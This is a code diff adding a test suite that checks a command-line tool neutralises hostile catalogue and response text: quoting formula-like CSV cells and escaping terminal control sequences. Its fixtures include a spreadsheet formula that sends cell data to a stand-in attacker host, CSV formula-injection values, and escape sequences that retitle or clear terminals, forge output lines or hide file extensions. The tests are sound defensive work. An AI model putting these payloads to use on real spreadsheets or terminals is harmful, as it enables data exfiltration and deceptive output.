@@ -205,3 +205,70 @@ describe.skipIf(!hasPeakRss)('signals (issue 15 item 9)', () => {
     })
   })
 })
+
+describe('output sinks (issue 15 item 7)', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'otc-sinks-'))
+  const ESC = '\u001b'
+  // A catalogue file of your own whose text is hostile: formulas for spreadsheets, escape
+  // sequences for terminals (retitle, clear, recolour), a forged line.
+  const hostile = join(dir, 'evil.json')
+  const entry = { code: 'EVIL.0001', status: 400, category: 'validation', retry: 'never' }
+  writeFileSync(
+    hostile,
+    JSON.stringify({
+      service: 'EVIL',
+      title: 'Evil',
+      prefixes: ['EVIL'],
+      sources: [],
+      entries: [
+        { ...entry, message: '=HYPERLINK("http://evil.example/?"&A1,"click")', remedy: `${ESC}]0;pwned\u0007${ESC}[2Jcleared\nFAKE: line` },
+        { ...entry, code: 'EVIL.0002', message: '+1+1', remedy: '@SUM(A1)' },
+        { ...entry, code: 'EVIL.0003', message: '-2+3', remedy: '\tTab' },
+        { ...entry, code: 'EVIL.0004', message: '\rCR', remedy: 'plain' },
+      ],
+    }),
+  )
+
+  it('catalog export --format csv: a cell a spreadsheet would run is quoted behind a single quote', async () => {
+    const r = await run(['catalog', 'export', '--format', 'csv', '--catalog', hostile])
+    expect(r.code).toBe(0)
+    const rows = r.stdout.split('\r\n').filter((l) => l.startsWith('EVIL.'))
+    expect(rows).toEqual([
+      `EVIL.0001,EVIL,400,validation,false,never,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
+      `EVIL.0002,EVIL,400,validation,false,never,"'+1+1"`,
+      `EVIL.0003,EVIL,400,validation,false,never,"'-2+3"`,
+      `EVIL.0004,EVIL,400,validation,false,never,"'\rCR"`,
+    ])
+  })
+  it('lookup: escape sequences and line breaks in the entry are shown as escapes', async () => {
+    const r = await run(['lookup', 'EVIL.0001', '--catalog', hostile])
+    expect(r.code).toBe(0)
+    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
+    expect(r.stdout).toContain('remedy    \\x1b]0;pwned\\x07\\x1b[2Jcleared\\nFAKE: line\n')
+  })
+  it('explain: what the body says is shown, never obeyed; the code and request id too', async () => {
+    const body = join(dir, 'body.json')
+    writeFileSync(body, JSON.stringify({ error_code: `AS.0001${ESC}[31m`, error_msg: `${ESC}]0;pwned\u0007${ESC}[2J bad\r\nFAKE: line \u009b31m \u202egnp.exe`, request_id: `abcd${ESC}[8m` }))
+    const r = await run(['explain', '--status', '400', body])
+    expect(r.code).toBe(0)
+    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/)
+    expect(r.stdout.split('\n')[0]).toContain('\\x1b]0;pwned\\x07\\x1b[2J bad\\r\\nFAKE: line \\x9b31m \\u202egnp.exe')
+    expect(r.stdout).not.toMatch(/^FAKE/m)
+  })
+  it('classify summary: a file name with escape sequences is shown as escapes', async () => {
+    const log = join(dir, `app${ESC}[2J.log`)
+    writeFileSync(log, 'status=429 APIGW.0308\n')
+    const r = await run(['classify', log])
+    expect(r.code).toBe(0)
+    expect(r.stdout).not.toContain(ESC)
+    expect(r.stdout).toContain('app\\x1b[2J.log:1')
+  })
+  it('an HTML title of any length is cut at 2,000 characters, with an ellipsis', async () => {
+    const page = join(dir, 'page.http')
+    writeFileSync(page, `HTTP/1.1 502 Bad Gateway\r\nContent-Type: text/html\r\n\r\n<html><title>${'Gateway trouble '.repeat(50_000)}</title></html>`)
+    const r = await run(['explain', '--json', page])
+    const x = JSON.parse(r.stdout) as { message: string }
+    expect(x.message.length).toBeLessThanOrEqual(2001)
+    expect(x.message.endsWith('…')).toBe(true)
+  })
+})
